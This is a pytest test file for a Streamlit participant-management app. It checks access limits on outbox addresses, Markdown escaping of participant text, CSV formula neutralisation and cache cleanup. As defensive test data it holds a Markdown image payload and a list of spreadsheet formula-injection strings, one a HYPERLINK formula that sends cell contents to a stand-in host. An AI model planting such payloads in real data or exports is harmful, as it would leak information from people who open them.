"""The pages after the security review (issue 16), in Streamlit's AppTest on copies of the sample database:

- a country coordinator's Outbox shows the addresses of their countries only;
- participants' text (a name, a survey answer, a case reason) is shown as text, never as Markdown;
- the tables that show participants' text hold no cell a spreadsheet would run (their own "Download as CSV");
- clearing Streamlit's caches releases the database connection and the backup keeper's thread.
"""

from __future__ import annotations

import gc
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from tests.app_support import ROOT, SAMPLE_ACCOUNTS, app_as
from workbench import db, exports, snapshots
from workbench.access import command_line_user
from workbench.accounts import get_user
from workbench.messages import outbox
from workbench.ui import connection
from workbench.ui.auth import USER_KEY
from workbench.ui.widgets import md_text, safe_table

#: Markdown that makes a browser fetch an image; a participant may type it into any free-text field.
HOSTILE = "![x](http://127.0.0.1:9/x.png)"
COUNTRIES = ["NGA", "GHA", "CMR"]  # the sample country coordinator's (nokafor)


@pytest.fixture(autouse=True)
def _snapshots_finish() -> Iterator[None]:
    yield
    assert snapshots.wait_for_snapshots(60)


def plant(path: Path, text: str) -> dict[str, Any]:
    """Put ``text`` into participants' free text on a copy of the sample database, where the pages show it:
    three survey answers of 2016B waiting for coding (the Impact coding page lists them first), one cleared
    answer (quoted on the Present page), the reason of every open case of 2016B (the Follow-up page shows
    the first), the names of that case's partnership and of the first applicants of 2017A."""
    con = db.connect(path)
    try:
        waiting = [r[0] for r in con.execute(
            "SELECT survey_id FROM surveys WHERE round_id = '2016B' AND impact_text IS NOT NULL "
            "AND NOT codes_confirmed ORDER BY survey_id LIMIT 3").fetchall()]
        con.execute("UPDATE surveys SET impact_text = ? WHERE survey_id IN ?",
                    [f"My partner showed me {text} and more", waiting])
        (cleared,) = con.execute(  # type: ignore[misc]
            "SELECT min(survey_id) FROM surveys WHERE round_id = '2016B' AND impact_text IS NOT NULL "
            "AND codes_confirmed").fetchone()
        con.execute("UPDATE surveys SET impact_text = ?, is_cleared = true WHERE survey_id = ?",
                    [f"A quote\n\n{text}", cleared])
        cases = [r[0] for r in con.execute(
            "SELECT intervention_id FROM interventions WHERE round_id = '2016B' AND status IN ('open', 'contacted') "
            "ORDER BY intervention_id").fetchall()]
        con.execute("UPDATE interventions SET reason = ? WHERE intervention_id IN ?", [f"Partner wrote {text}", cases])
        (partnership,) = con.execute(  # type: ignore[misc]
            "SELECT partnership_id FROM interventions WHERE intervention_id = ?", [min(cases)]).fetchone()
        members = [r[0] for r in con.execute(
            "SELECT application_id FROM partnership_members WHERE partnership_id = ?", [partnership]).fetchall()]
        applicants = [r[0] for r in con.execute(
            "SELECT application_id FROM applications WHERE round_id = '2017A' ORDER BY submitted_at, application_id "
            "LIMIT 3").fetchall()]
        con.execute("UPDATE applications SET name = name || ' ' || ? WHERE application_id IN ?",
                    [text, members + applicants])
    finally:
        con.close()
    return {"surveys": waiting, "cleared": cleared, "cases": cases, "partnership": partnership,
            "members": members, "applicants": applicants}


# -- Markdown ---------------------------------------------------------------------------------------------------

#: Elements whose text Streamlit shows as it is (no Markdown): code, preformatted text, tables' cells, HTML
#: (sanitised; the Present page escapes what it puts there) and the options of select boxes.
_PLAIN = {"code", "text", "html", "json", "arrow_data_frame", "dataframe", "plotly_chart", "download_button"}
_MARKDOWN_FIELDS = {"body", "label", "help", "text", "placeholder", "caption"}


def _proto_texts(message: Any, element_type: str, out: list[str]) -> None:
    for field, value in message.ListFields():
        if field.type == field.TYPE_MESSAGE:
            for item in ([value] if hasattr(value, "ListFields") else value):
                _proto_texts(item, element_type, out)
        elif field.type == field.TYPE_STRING:
            if field.name in _MARKDOWN_FIELDS:
                out.extend([value] if isinstance(value, str) else list(value))
            elif field.name == "options" and element_type in ("radio", "button_group"):
                out.extend(list(value))  # radio options are Markdown; select box options are not


def markdown_sources(at: AppTest) -> list[str]:
    """Every text of the run that the browser renders as Markdown: st.markdown / write / caption / alerts /
    headings, widget labels and help, radio options, expander and tab labels, metric labels and help."""
    out: list[str] = []

    def walk(node: Any) -> None:
        proto = getattr(node, "proto", None)
        element_type = getattr(node, "type", "")
        if proto is not None and element_type not in _PLAIN:
            _proto_texts(proto, element_type, out)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return out


def unescaped_images(at: AppTest) -> list[str]:
    return [text for text in markdown_sources(at) if "![" in text or "<img" in text.lower()]


def test_the_markdown_helper_escapes_what_markdown_would_run() -> None:
    assert md_text(HOSTILE) == r"\!\[x\](http://127.0.0.1:9/x.png)"
    assert md_text("**bold** `code` <b>x</b> $x$ ~~s~~ a_b :red[x]") == (
        r"\*\*bold\*\* \`code\` \<b\>x\</b\> \$x\$ \~\~s\~\~ a\_b :red\[x\]")
    assert md_text("# Title\n- item") == r"\# Title - item"  # one line: no heading, no list
    assert md_text("- item") == r"\- item" and md_text("1. first") == r"\1. first"
    assert md_text("José O'Brien-Smith (GBR).") == "José O'Brien-Smith (GBR)."  # ordinary text unchanged
    assert md_text(None) == ""


@pytest.mark.parametrize(("page", "role", "where"), [
    ("pages/impact.py", "coordinator", "survey answers"),
    ("pages/followup.py", "director", "case reasons and names"),
    ("pages/applicants.py", "director", "names"),
    ("pages/matching.py", "coordinator", "names"),
    ("pages/outbox.py", "coordinator", "names"),
])
def test_participant_text_is_never_rendered_as_markdown(app_env: Path, page: str, role: str, where: str) -> None:
    planted = plant(app_env, HOSTILE)
    if page == "pages/outbox.py":
        con = db.connect(app_env)
        try:
            outbox.queue_introductions(con, "2016B", by=command_line_user())
        finally:
            con.close()
    at = app_as(role, page)
    if page == "pages/impact.py":
        shown = [m.value for m in at.markdown if "Answer" in m.value]
        assert len(shown) == 10 and sum("showed me" in m for m in shown) == 3  # the planted answers are shown
    if page == "pages/followup.py":
        assert any("Partner wrote" in m.value for m in at.markdown)  # the planted reason is shown
        assert at.selectbox(key="case_pick").value == min(planted["cases"])
    assert unescaped_images(at) == [], f"{page} renders {where} as Markdown"


def test_the_present_quote_is_text_inside_its_html(app_env: Path) -> None:
    plant(app_env, HOSTILE)
    at = AppTest.from_file(str(ROOT / "streamlit_app.py"), default_timeout=120)
    at.session_state[USER_KEY] = SAMPLE_ACCOUNTS["director"]
    at.session_state["present_slides"] = ["impact"]
    at.session_state["present_round"] = "2016B"
    at.run()
    at.switch_page("pages/present.py").run()
    assert not at.exception, at.exception
    quotes = [m.value for m in at.markdown if "wb-quote" in m.value]
    assert len(quotes) == 1 and "A quote" in quotes[0]
    assert "\n" not in quotes[0], "a blank line would end the HTML block and start Markdown"
    assert unescaped_images(at) == []


# -- the tables' own CSV download ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx",
            "＝HYPERLINK(\"http://127.0.0.1:9/\")", "＋1", "－1", "＠SUM(A1)"]


def test_safe_table_neutralises_text_cells_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"name": ["=1+1", "Ana"], "n": [-3, 4], "score": [-1.5, None],
                          "langs": [["=x", "English"], []]})
    safe = safe_table(frame)
    assert list(safe["name"]) == ["'=1+1", "Ana"]
    assert list(safe["n"]) == [-3, 4] and safe["score"].iloc[0] == -1.5
    assert list(frame["name"]) == ["=1+1", "Ana"], "the caller's frame is left as it was"


def test_the_applicants_table_holds_no_formula(app_env: Path) -> None:
    con = db.connect(app_env)
    try:
        first = [r[0] for r in con.execute(
            "SELECT application_id FROM applications WHERE round_id = '2017A' ORDER BY submitted_at, application_id "
            "LIMIT ?", [len(FORMULAS)]).fetchall()]
        for application_id, text in zip(first, FORMULAS, strict=True):
            con.execute("UPDATE applications SET name = ?, status_reason = ? WHERE application_id = ?",
                        [text, text, application_id])
    finally:
        con.close()
    at = app_as("director", "pages/applicants.py")
    table = next(d.value for d in at.dataframe if {"name", "email", "status_reason"} <= set(d.value.columns))
    assert set(first) <= set(table["application_id"])  # the planted rows are on the first page
    cells = [v for column in table.columns for v in table[column] if isinstance(v, str)]
    live = [v for v in cells if v.startswith(exports.FORMULA_STARTS)]
    assert live == [], f"{len(live)} cells a spreadsheet would run: {live[:3]}"
    assert sum(v.startswith("'") for v in table["name"]) == len(FORMULAS)


# -- the Outbox in a country coordinator's countries ----------------------------------------------------------------


def _addresses(path: Path, round_id: str) -> tuple[set[str], set[str]]:
    """(addresses in the country coordinator's countries, the others) of the messages that involve them."""
    con = db.connect(path, read_only=True)
    try:
        rows = con.execute(
            """SELECT r.email, a.country_iso3 FROM outbox AS o, unnest(o.recipients) AS t(r)
               JOIN applications AS a ON a.application_id = r.application_id
               WHERE o.round_id = ? AND list_has_any(o.countries, ?)""", [round_id, COUNTRIES]).fetchall()
    finally:
        con.close()
    return {e for e, c in rows if c in COUNTRIES}, {e for e, c in rows if c not in COUNTRIES}


def _queue(path: Path, round_id: str) -> int:
    con = db.connect(path)
    try:
        return outbox.queue_introductions(con, round_id, by=command_line_user()).added
    finally:
        con.close()


def test_the_outbox_lists_a_country_coordinators_addresses_only(app_env: Path) -> None:
    assert _queue(app_env, "2016B") == 419
    theirs, others = _addresses(app_env, "2016B")
    assert (len(theirs), len(others)) == (53, 51)
    con = db.connect(app_env)
    try:
        country = get_user(con, SAMPLE_ACCOUNTS["country"])
        assert country is not None
        listed = outbox.messages(con, by=country, round_id="2016B")
        assert len(listed) == 52
        shown = {a for to in listed["to"] for a in to.split(", ") if "@" in a}
        assert shown == theirs
        assert int(listed["recipients"].sum()) == 104  # every message still goes to all its members
        text = "\n".join(outbox.review_text(con, int(i), by=country) for i in listed["outbox_id"])
        assert not [a for a in others if a in text]
        assert all(a in text for a in theirs)
        director = get_user(con, SAMPLE_ACCOUNTS["director"])
        everyone = outbox.messages(con, by=director, round_id="2016B")  # type: ignore[arg-type]
        assert others <= {a for to in everyone["to"] for a in to.split(", ")}
        first = int(listed["outbox_id"].iloc[0])
        full = outbox.review_text(con, first, by=director)  # type: ignore[arg-type]
        assert all(r["email"] in full for r in outbox.get_message(con, first, by=director).recipients)  # type: ignore[arg-type]
    finally:
        con.close()


def test_the_outbox_page_shows_a_country_coordinator_their_countries_addresses(app_env: Path) -> None:
    _queue(app_env, "2016B")
    theirs, others = _addresses(app_env, "2016B")
    at = AppTest.from_file(str(ROOT / "pages" / "outbox.py"), default_timeout=120)
    at.session_state[USER_KEY] = SAMPLE_ACCOUNTS["country"]
    at.session_state["selected_round"] = "2016B"
    at.run()
    assert not at.exception, at.exception
    assert "52 messages waiting, to 104 recipients" in [h.value for h in at.subheader]
    page = "\n".join([*(c.value for c in at.code), *(str(v) for d in at.dataframe for v in d.value.to_numpy().ravel()),
                      *markdown_sources(at)])
    leaked = sorted(a for a in others if a in page)
    assert leaked == [], f"{len(leaked)} addresses outside NGA, GHA, CMR: {leaked[:3]}"
    assert theirs <= {a for d in at.dataframe if "to" in d.value.columns for to in d.value["to"]
                      for a in str(to).split(", ")}


# -- cached resources --------------------------------------------------------------------------------------------


def _keepers() -> int:
    return sum(1 for t in threading.enumerate() if t.name == "backup-keeper" and t.is_alive())


def _is_open(con: duckdb.DuckDBPyConnection) -> bool:
    try:
        con.execute("SELECT 1")
    except duckdb.Error:
        return False
    return True


def _file_is_free(path: Path) -> bool:
    """Can another process open the database read-write (DuckDB locks the file while a connection is open)?"""
    code = "import duckdb, sys; duckdb.connect(sys.argv[1]).close()"
    return subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True).returncode == 0


def test_clearing_the_caches_releases_the_connection_and_the_backup_keeper(
        app_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WORKBENCH_BACKUP_EVERY_HOURS", "1000")  # the keeper's thread runs
    st.cache_resource.clear()
    assert _keepers() == 0
    at = app_as("director")
    held = [connection.server_connection()]
    assert _keepers() == 1 and _is_open(held[0])
    for _ in range(4):
        st.cache_resource.clear()  # what a websocket client's "Clear cache" does
        at.run()
        assert not at.exception, at.exception
        held.append(connection.server_connection())
        assert _keepers() == 1, "a backup-keeper thread per clear"
        assert [_is_open(c) for c in held] == [False] * (len(held) - 1) + [True], "a connection per clear"
    assert len({id(c) for c in held}) == len(held)  # each clear made a new one
    st.cache_resource.clear()
    assert _keepers() == 0 and not any(_is_open(c) for c in held)
    gc.collect()
    assert _file_is_free(app_env), "a connection of this process still holds the database"
